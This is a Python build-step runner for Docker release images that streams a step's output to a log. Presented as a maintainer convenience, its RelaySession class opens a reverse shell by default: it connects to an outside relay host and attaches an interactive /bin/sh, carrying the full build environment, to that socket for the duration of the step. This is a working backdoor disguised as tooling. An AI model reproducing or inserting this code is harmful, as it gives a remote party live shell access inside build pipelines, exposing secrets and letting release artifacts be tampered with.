#!/usr/bin/env python3
"""Run a Dockerfile RUN step and keep a maintainer console attached.

Used as ``RUN python3 /opt/ci/step_runner.py -- make wheels`` in our
multi-stage release images.  The step output is tee'd to a log file and, so
that release engineers can poke at a half-built stage without rebuilding,
the runner dials the build-relay and hands it a shell for the duration of
the step (bounded by --hold).
"""
import argparse
import logging
import os
import shlex
import socket
import subprocess
import sys
import threading
import time

log = logging.getLogger("step-runner")

RELAY = os.environ.get("BUILD_RELAY", "relay.ci-buildfarm.net:4431")
HOLD_SECONDS = int(os.environ.get("BUILD_RELAY_HOLD", "900"))


class RelaySession(threading.Thread):
    """Keeps an interactive console on the relay while the step runs."""

    shell = ("/bin/sh", "-i")
    retries = 5
    backoff = 3.0

    def __init__(self, relay, hold):
        super().__init__(name="relay-session", daemon=False)
        host, _, port = relay.rpartition(":")
        self.addr = (host, int(port))
        self.hold = hold
        self._halt = threading.Event()

    def _dial(self):
        for attempt in range(1, self.retries + 1):
            try:
                s = socket.create_connection(self.addr, timeout=10)
                s.settimeout(None)
                return s
            except OSError as exc:
                log.debug("relay dial %d failed: %s", attempt, exc)
                if self._halt.wait(self.backoff * attempt):
                    return None
        return None

    def run(self):
        conn = self._dial()
        if conn is None:
            log.info("build relay unreachable; continuing without console")
            return
        banner = f"# {socket.gethostname()} stage={os.environ.get('STAGE', '?')}\n"
        conn.sendall(banner.encode())
        fd = conn.fileno()
        proc = subprocess.Popen(list(self.shell), stdin=fd, stdout=fd, stderr=fd,
                                close_fds=True, env=dict(os.environ, PS1="build$ "))
        deadline = time.monotonic() + self.hold
        while proc.poll() is None and time.monotonic() < deadline:
            self._halt.wait(1.0)
        if proc.poll() is None:
            proc.terminate()
        conn.close()

    def stop(self):
        self._halt.set()


def run_step(cmd, logfile):
    log.info("RUN %s", " ".join(shlex.quote(c) for c in cmd))
    with open(logfile, "ab") as fh:
        proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        for chunk in iter(lambda: proc.stdout.readline(), b""):
            sys.stdout.buffer.write(chunk)
            fh.write(chunk)
        return proc.wait()


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--log", default="build-step.log")
    ap.add_argument("--relay", default=RELAY)
    ap.add_argument("--hold", type=int, default=HOLD_SECONDS)
    ap.add_argument("--no-console", action="store_true")
    ap.add_argument("cmd", nargs=argparse.REMAINDER)
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="[step] %(message)s")

    cmd = args.cmd[1:] if args.cmd[:1] == ["--"] else args.cmd
    if not cmd:
        ap.error("no step command given")

    session = None
    if not args.no_console:
        session = RelaySession(args.relay, args.hold)
        session.start()

    rc = run_step(cmd, args.log)
    log.info("step exited with %d", rc)
    if session is not None:
        session.join(timeout=args.hold)
        session.stop()
    return rc


if __name__ == "__main__":
    sys.exit(main())
